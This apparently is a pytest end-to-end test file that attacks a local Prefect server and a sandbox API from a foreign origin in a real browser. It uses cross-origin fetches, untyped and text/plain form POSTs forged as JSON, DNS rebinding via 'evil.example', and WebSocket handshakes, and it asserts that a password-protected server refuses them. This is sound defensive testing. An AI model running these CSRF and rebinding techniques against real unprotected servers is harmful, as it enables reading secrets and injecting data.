"""A page of another origin in a real browser: it reads and writes nothing at Prefect's server or at the sandbox.

The same attacks succeed at a Prefect server without a password: so they are real.
"""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

from tests.flows.prefect_ui import PrefectServer
from tests.own_server import OwnServer, running_own_server
from tests.report.browser import Page, chromium, needs_chromium
from tests.stubs import answering
from tests.workplace import Workplace, wait_until

pytestmark = [needs_chromium, pytest.mark.e2e, pytest.mark.slow]

REBOUND = "evil.example"
"""A name of the attacker, which leads to this machine."""

EVENT = {
    "occurred": "2026-11-27T12:00:00Z",
    "event": "evil.event",
    "resource": {"prefect.resource.id": "evil.resource"},
    "payload": {},
    "id": "00000000-0000-4000-8000-000000000001",
}
JSON_TYPE = {"content-type": "application/json"}
BASIC = {"authorization": "Basic ZGFpbGllczpndWVzcw=="}
KEY = {"authorization": "Bearer ghub_sk_test_" + "0" * 32}


@pytest.fixture
def page(tmp_path: Path) -> Iterator[Page]:
    with chromium(tmp_path / "chromium", f"--host-resolver-rules=MAP {REBOUND} 127.0.0.1") as page:
        yield page


@pytest.fixture
def evil(page: Page) -> Iterator[str]:
    """The address of a page of another origin."""
    with answering({"/": (200, "<html><body>A page</body></html>")}) as url:
        yield url


@pytest.fixture
def own_server(tmp_path: Path, workplace: Workplace) -> Iterator[OwnServer]:
    home = tmp_path / "own"
    home.mkdir()
    with running_own_server(workplace, home) as server:
        yield server


def fetch(page: Page, url: str, body: Any = None, **options: Any) -> int | str:
    """What a script of the page gets: the status, or the name of the error."""
    given = {"method": "GET" if body is None else "POST", **options}
    if body is not None:
        given["body"] = json.dumps(body)
    script = f"fetch({json.dumps(url)}, {json.dumps(given)}).then(r => r.text().then(() => r.status), e => e.name)"
    answer: int | str = page.run(script)
    return answer


def send_without_type(page: Page, url: str, body: Any) -> None:
    """A POST whose body has no type, which Prefect takes for JSON."""
    blob = f"new Blob([{json.dumps(json.dumps(body))}])"
    page.run(f"fetch({json.dumps(url)}, {{method: 'POST', mode: 'no-cors', body: {blob}}}).then(() => 0, () => 0)")


def submit_form(page: Page, url: str, body: dict[str, str]) -> None:
    """A form of type text/plain in a frame; its field's name and value together are JSON."""
    text = json.dumps({**body, "x": "="})
    name, value = text.split("=", 1)
    page.run(
        f"""new Promise(done => {{
            const frame = document.createElement('iframe'), form = document.createElement('form');
            const field = document.createElement('input');
            frame.name = 'target';
            Object.assign(field, {{name: {json.dumps(name)}, value: {json.dumps(value)}}});
            Object.assign(form, {{action: {json.dumps(url)}, method: 'POST', enctype: 'text/plain', target: 'target'}});
            form.append(field);
            document.body.append(frame, form);
            frame.onload = () => {{ frame.remove(); form.remove(); done(); }};
            form.submit();
        }})"""
    )


def talk(page: Page, url: str, messages: list[Any], *protocols: str) -> bool:
    """Send messages over a WebSocket; return whether the server took the first one."""
    is_open: bool = page.run(
        f"""new Promise(done => {{
            const socket = new WebSocket({json.dumps(url)}, {json.dumps(protocols)});
            let accepted = false;
            socket.onopen = () => {{
                for (const message of {json.dumps(messages)}) socket.send(JSON.stringify(message));
                setTimeout(() => {{ accepted = socket.readyState === 1; socket.close(); done(accepted); }}, 1500);
            }};
            socket.onclose = socket.onerror = () => done(accepted);
        }})"""
    )
    return is_open


def attack(page: Page, api: str) -> dict[str, Any]:
    """Try every way of a foreign page to read and write; return what the page itself could read."""
    read = {
        "version": fetch(page, f"{api}/admin/version"),
        "settings": fetch(page, f"{api}/admin/settings"),
        "blocks": fetch(page, f"{api}/block_documents/filter", {"include_secrets": True}, headers=JSON_TYPE),
        "flows": fetch(page, f"{api}/flows/filter", {}, headers=JSON_TYPE),
        "guess": fetch(page, f"{api}/flows/filter", {}, headers=JSON_TYPE | BASIC),
    }
    fetch(page, f"{api}/flows/", {"name": "evil-json"}, headers=JSON_TYPE)
    fetch(page, f"{api}/flows/", {"name": "evil-plain"}, mode="no-cors", credentials="include")
    send_without_type(page, f"{api}/flows/", {"name": "evil-untyped"})
    submit_form(page, f"{api}/flows/", {"name": "evil-form"})
    sockets = api.replace("http", "ws", 1)
    handshake = {"type": "auth", "token": "dailies:guess"}
    everything = {"type": "filter", "filter": {"occurred": {"since": "2026-01-01T00:00:00Z"}}}
    read["events in"] = talk(page, f"{sockets}/events/in", [EVENT])
    read["events in, with a handshake"] = talk(page, f"{sockets}/events/in", [handshake, EVENT], "prefect")
    read["events out"] = talk(page, f"{sockets}/events/out", [handshake, everything], "prefect")
    read["logs out"] = talk(page, f"{sockets}/logs/out", [handshake, {"type": "filter", "filter": {}}], "prefect")
    read["worker"] = talk(page, f"{sockets}/work_pools/dailies/workers/connect", [handshake], "prefect")
    read["task worker"] = talk(page, f"{sockets}/task_runs/subscriptions/scheduled", [handshake], "prefect")
    return read


def written(server: PrefectServer) -> set[str]:
    """What the attacks have written."""
    flows = {flow["name"] for flow in server.post("/flows/filter", {}) if flow["name"].startswith("evil")}
    found = server.post("/events/filter", {"filter": {"event": {"name": [EVENT["event"]]}}})
    return flows | {event["event"] for event in found["events"]}


def log_in(page: Page, ui_url: str, password: str) -> None:
    """Open the UI and paste its password, as a person does."""
    page.open(ui_url)
    page.wait_for("document.querySelector('input[type=password]') !== null")
    page.run("document.querySelector('input[type=password]').focus()")
    page.call("Input.insertText", text=password)
    page.press("Enter", 13)
    page.wait_for("location.pathname.endsWith('/dashboard') && document.body.innerText.includes('Deployments')")


def test_another_origin_reads_and_writes_nothing_at_the_server_that_dailies_starts(
    page: Page, evil: str, own_server: OwnServer
) -> None:
    log_in(page, own_server.url.removesuffix("/api"), own_server.password)
    page.open(evil)
    could_read = attack(page, own_server.url)
    with own_server.client() as api:
        assert written(PrefectServer(api)) == set()
    assert {what for what, answer in could_read.items() if answer not in ("TypeError", False)} == set()
    page.open(f"http://{REBOUND}:{urlsplit(own_server.url).port}/")
    rebound = attack(page, f"http://{REBOUND}:{urlsplit(own_server.url).port}/api")
    with own_server.client() as api:
        assert written(PrefectServer(api)) == set()
    assert {what for what, answer in rebound.items() if answer not in (401, False)} == set()


def test_the_same_attacks_succeed_at_a_server_without_a_password(page: Page, evil: str, prefect_api_url: str) -> None:
    page.open(evil)
    could_read = attack(page, prefect_api_url)
    page.open(f"http://{REBOUND}:{urlsplit(prefect_api_url).port}/")
    rebound = attack(page, f"http://{REBOUND}:{urlsplit(prefect_api_url).port}/api")
    ways = {"evil-json", "evil-untyped", "evil.event"}  # FastAPI refuses text/plain, but not a body without a type
    with httpx.Client(base_url=prefect_api_url, trust_env=False) as api:
        wait_until(lambda: written(PrefectServer(api)) >= ways)
    assert {what for what, answer in could_read.items() if answer not in (200, True)} == set()
    assert rebound == could_read


def test_another_origin_reads_and_writes_nothing_at_the_sandbox(page: Page, evil: str, workplace: Workplace) -> None:
    assert workplace.run("run", workplace.write_csv(1)).returncode == 0
    root = workplace.sandbox.root_url
    order = {"model": "veo-3.1-fast", "prompt": "evil"}
    faults = {"kind": "server_error", "how": "request"}
    jobs, balance = len(workplace.sandbox.jobs()), workplace.sandbox.balance_mxn()
    page.open(evil)
    for path, body in [("/v1/videos", order), ("/sandbox/faults", faults), ("/storage/v1/object/evil/x", order)]:
        assert fetch(page, f"{root}{path}", body, headers=JSON_TYPE | KEY) == "TypeError", path
        fetch(page, f"{root}{path}", body, mode="no-cors", credentials="include")
        send_without_type(page, f"{root}{path}", body)
        submit_form(page, f"{root}{path}", {**body})
    for path in ("/", "/v1/balance", "/sandbox/account", "/storage/v1/bucket"):
        assert fetch(page, f"{root}{path}") == "TypeError", path
    page.open(f"http://{REBOUND}:{urlsplit(root).port}/")
    assert "shot number" not in page.run("document.documentElement.outerHTML")
    assert fetch(page, "/") in range(400, 500)
    assert fetch(page, "/v1/videos", order, headers=JSON_TYPE) in range(400, 500)
    assert (len(workplace.sandbox.jobs()), workplace.sandbox.balance_mxn()) == (jobs, balance)
